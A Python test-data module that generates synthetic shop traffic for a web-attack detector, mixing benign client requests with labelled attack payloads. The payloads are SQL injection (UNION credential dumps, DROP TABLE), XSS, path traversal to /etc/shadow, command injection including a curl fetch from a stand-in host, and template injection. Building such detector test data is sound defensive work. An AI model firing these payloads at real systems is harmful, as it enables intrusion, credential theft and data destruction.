"""Generated requests: five kinds of clients, and attacks of several classes.

All of it is made up. It shows that the parts work together over real HTTP, and nothing about how
well attacks are told from the traffic of a real site; the benchmarks on public data do that.
"""

from __future__ import annotations

from collections.abc import Callable, Iterator
from dataclasses import dataclass, replace

import numpy as np

__all__ = ["ATTACKS", "KINDS", "UNKNOWN", "Asked", "Dice", "attack", "changed", "examples", "usual"]

Dice = np.random.Generator
_NAMES = ("anna", "bertha", "carlos", "dora", "emil", "frieda", "georg", "hanna", "ivan", "julia")
_WORDS = ("red", "blue", "small", "large", "lamp", "chair", "table", "garden", "wood", "metal")
_COLORS = ("walnut", "ivory", "slate", "amber")


@dataclass(frozen=True, kw_only=True)
class Asked:
    """One request of a client. form, json: of its body. label: the class of an attack, or ""."""

    method: str
    path: str
    query: tuple[tuple[str, str], ...] = ()
    form: dict[str, str] | None = None
    json: dict[str, object] | None = None
    agent: str = "shop/5.1"
    label: str = ""
    source: str = ""


def _pick(dice: Dice, of: tuple[str, ...]) -> str:
    return of[int(dice.integers(len(of)))]


def _user(dice: Dice) -> str:
    return f"{_pick(dice, _NAMES)}{dice.integers(100)}"


def _words(dice: Dice) -> str:
    return " ".join(_pick(dice, _WORDS) for _ in range(int(dice.integers(1, 4))))


def _browse(dice: Dice) -> Asked:
    if dice.random() < 0.5:
        query = (("sort", _pick(dice, ("asc", "desc"))), ("page", str(dice.integers(1, 40))))
        return Asked(method="GET", path="/items", query=query)
    return Asked(method="GET", path=f"/items/{dice.integers(900)}")


def _search(dice: Dice) -> Asked:
    query = (("q", _words(dice)), ("lang", _pick(dice, ("en", "fr", "de"))))
    return Asked(method="GET", path="/search", query=query)


def _order(dice: Dice) -> Asked:
    body = {"user": _user(dice), "amount": int(dice.integers(1, 9)), "note": _words(dice)}
    return Asked(method="POST", path="/orders", json=body, agent="mobile/2.3")


def _account(dice: Dice) -> Asked:
    if dice.random() < 0.5:
        return Asked(method="GET", path=f"/users/{_user(dice)}", agent="mobile/2.3")
    form = {"user": _user(dice), "password": f"{_pick(dice, _COLORS)}{dice.integers(10**6):06d}"}
    return Asked(method="POST", path="/login", form=form, agent="mobile/2.3")


def _partner(dice: Dice) -> Asked:
    query = (("fields", _pick(dice, ("name,price", "name", "price,stock"))),)
    return Asked(method="GET", path=f"/stock/{dice.integers(900)}", query=query, agent="batch/1.0")


KINDS: tuple[Callable[[Dice], Asked], ...] = (_browse, _search, _order, _account, _partner)
"""What one kind of client asks. A site has two of them, so what it knows is not what others ask."""


def usual(dice: Dice, site: int, count: int) -> Iterator[Asked]:
    """Requests of the two hundred clients of one site."""
    for _ in range(count):
        asked = KINDS[(site + int(dice.integers(2))) % len(KINDS)](dice)
        yield replace(asked, source=f"10.{site}.0.{dice.integers(1, 200)}")


def changed(dice: Dice, count: int) -> Iterator[Asked]:
    """Clients that browse have a new version, which asks for prices in a currency."""
    for _ in range(count):
        currency = (("currency", _pick(dice, ("EUR", "USD", "CHF"))),)
        query = (("sort", _pick(dice, ("asc", "desc"))), ("page", str(dice.integers(1, 40))))
        yield Asked(method="GET", path="/items", query=query + currency)


def _sqli(dice: Dice) -> str:
    n, word = dice.integers(1, 99), _pick(dice, _WORDS)
    return _pick(
        dice,
        (
            f"{word}' or {n}={n}--",
            f"{word}' union select name,password from users--",  # noqa: S608 -- an attack
            f"{n}; drop table {word}--",
            f"{word}' and sleep({n})#",
        ),
    )


def _xss(dice: Dice) -> str:
    n, word = dice.integers(1, 99), _pick(dice, _WORDS)
    return _pick(
        dice,
        (
            f"<script>alert({n})</script>",
            f'{word}"><img src=x onerror=alert({n})>',
            f"<svg onload=alert('{word}')>",
        ),
    )


def _lfi(dice: Dice) -> str:
    up = "../" * int(dice.integers(3, 8))
    return up + _pick(dice, ("etc/passwd", "etc/shadow", "proc/self/environ", "var/log/auth.log"))


def _rce(dice: Dice) -> str:
    word = _pick(dice, _WORDS)
    return _pick(
        dice,
        (f"{word}; cat /etc/hosts", f"{word} | id", f"$(curl {word}.example/x)", f"`id` {word}"),
    )


def _ssti(dice: Dice) -> str:
    word = _pick(dice, ("config", "self", "request", "lipsum"))
    steps = (".items()", "|attr", f"[{dice.integers(9)}]", ".__class__", f"({dice.integers(99)})")
    return f"{{{{{word}{''.join(_pick(dice, steps) for _ in range(int(dice.integers(1, 5))))}}}}}"


ATTACKS: dict[str, Callable[[Dice], str]] = {"sqli": _sqli, "xss": _xss, "lfi": _lfi, "rce": _rce}
UNKNOWN = "template-injection"


def attack(dice: Dice, label: str, site: int, number: int) -> Asked:
    """A request of the site's usual clients, with a payload in one of its texts.

    Each has a source of its own: what blocks it is its name, not that the source alerted before.
    """
    value = (_ssti if label == UNKNOWN else ATTACKS[label])(dice)
    asked = _carrying(dice, KINDS[(site + int(dice.integers(2))) % len(KINDS)], value)
    source = f"198.{18 + number // 65536}.{number // 256 % 256}.{number % 256}"
    return replace(asked, label=label, source=source)


def _carrying(dice: Dice, kind: Callable[[Dice], Asked], value: str) -> Asked:
    """A request of this kind with the value in its text."""
    asked = kind(dice)
    if kind is _browse:
        return Asked(method="GET", path="/items", query=(("sort", value), ("page", "1")))
    if kind is _search:
        return replace(asked, query=(("q", value), ("lang", "en")))
    if kind is _order:
        return replace(asked, json={"user": _user(dice), "amount": 1, "note": value})
    if kind is _account:
        form = {"user": value, "password": "walnut123456"}
        return Asked(method="POST", path="/login", form=form, agent="mobile/2.3")
    return replace(asked, query=(("fields", value),))


def examples(dice: Dice, labels: tuple[str, ...], count: int) -> list[tuple[str, str]]:
    """Values and their labels to learn names from; `count` of each, and as many benign ones."""
    pairs = [(ATTACKS[label](dice), label) for label in labels for _ in range(count)]
    return pairs + [(_words(dice) if i % 2 else _user(dice), "benign") for i in range(2 * count)]
